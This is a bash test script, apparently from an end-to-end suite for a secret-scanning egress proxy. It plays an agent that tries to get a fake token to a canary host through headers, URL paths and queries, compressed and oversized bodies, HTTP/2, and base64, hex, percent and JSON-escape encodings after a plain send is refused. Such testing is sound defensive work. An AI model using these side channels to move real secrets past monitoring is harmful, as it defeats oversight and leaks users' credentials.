#!/bin/bash
# TestBypassSecrets' agent: inside one transparent session it tries to get
# a secret to a canary host by every side door it knows, one BYPASS line
# per attempt: "BYPASS name pid=PID rc=RC what the client printed". $1 is a
# file of shell assignments the test writes: SECRET (a fake token), ADDR
# and PORT (the HTTPS canary, canary.e2e.test), PLAIN (the HTTP canary,
# host:port), RUN (a path prefix of this run), DATA (the bodies the test
# made), WORK (a scratch directory).
set -u
. "$1"

# attempt NAME CMD...: runs CMD in a process whose pid is known (the
# subshell prints its pid, then execs CMD in its place).
attempt() {
	local name=$1 pidfile="$WORK/$1.pid" out rc
	shift
	out=$( (echo "$BASHPID" >"$pidfile"; exec "$@") 2>&1 )
	rc=$?
	echo "BYPASS $name pid=$(cat "$pidfile") rc=$rc $(printf '%s' "$out" | tr '\r\n' '  ' | cut -c1-400)"
}

S="https://canary.e2e.test:$PORT/$RUN"
H="http://$PLAIN/$RUN"
cu=(curl -sS --max-time 90 --resolve "canary.e2e.test:$PORT:$ADDR" -w ' status=%{http_code}')
body() { echo --data-binary "@$DATA/$1"; }

# A secret where no body is: a header of its own, the path, the query.
attempt header "${cu[@]}" -H "X-Custom: $SECRET" "$H/header"
attempt path "${cu[@]}" "$H/path/$SECRET"
attempt query "${cu[@]}" "$H/query?key=$SECRET"

# In bodies of every coding: deflate (zlib-wrapped and bare), brotli,
# zstd, two stacked; and a body that claims a coding it is not.
attempt deflate-zlib "${cu[@]}" -H 'Content-Encoding: deflate' $(body deflate-zlib) "$S/deflate-zlib"
attempt deflate-raw "${cu[@]}" -H 'Content-Encoding: deflate' $(body deflate-raw) "$S/deflate-raw"
attempt brotli "${cu[@]}" -H 'Content-Encoding: br' $(body brotli) "$S/brotli"
attempt zstd "${cu[@]}" -H 'Content-Encoding: zstd' $(body zstd) "$S/zstd"
attempt stacked "${cu[@]}" -H 'Content-Encoding: gzip, br' $(body stacked) "$S/stacked"
attempt corrupt "${cu[@]}" -H 'Content-Encoding: gzip' $(body corrupt) "$S/corrupt"

# Bodies too large to hold (20 MiB): the secret near the end, with a
# Content-Length; astride two of the scan's windows, chunked; near the
# end over HTTP/2 (TE: trailers keeps it HTTP/2 upstream).
attempt big-end "${cu[@]}" --http1.1 -H 'Content-Type: application/octet-stream' $(body big-end) "$S/big-end"
attempt big-straddle "${cu[@]}" --http1.1 -H 'Transfer-Encoding: chunked' $(body big-straddle) "$S/big-straddle"
attempt big-h2 "${cu[@]}" --http2 -H 'TE: trailers' $(body big-end) "$S/big-h2"

# What goes through: a clean body, deflated.
attempt clean "${cu[@]}" -H 'Content-Encoding: deflate' $(body clean) "$S/clean"

# The session shows the secret once (refused), then sends it encoded where
# no rule would know it: base64 at each alignment (body, header, query),
# hex, percent-encoded, JSON \u escapes (from Python).
attempt leak "${cu[@]}" --data-binary "token=$SECRET" "$S/leak"
attempt known-b64-0 "${cu[@]}" $(body b64-0) "$S/known-b64-0"
attempt known-b64-1 "${cu[@]}" -H "X-Data: $(cat "$DATA/b64-1")" "$S/known-b64-1"
attempt known-b64-2 "${cu[@]}" "$S/known-b64-2?d=$(cat "$DATA/b64-2")"
attempt known-hex "${cu[@]}" "$H/known-hex?h=$(cat "$DATA/hex")"
attempt known-url "${cu[@]}" -H 'Content-Type: application/x-www-form-urlencoded' $(body url) "$S/known-url"
attempt known-json python3 -c '
import http.client, json, sys
secret, plain, path = sys.argv[1], sys.argv[2], sys.argv[3]
body = "{\"note\":\"" + "".join("\\u%04x" % ord(c) for c in secret) + "\"}"
host, port = plain.rsplit(":", 1)
c = http.client.HTTPConnection(host, int(port), timeout=60)
c.request("POST", path, body=body, headers={"Content-Type": "application/json"})
r = c.getresponse()
print(r.read().decode().strip(), "status=%d" % r.status)
' "$SECRET" "$PLAIN" "/$RUN/known-json"

echo "BYPASS done pid=$$"
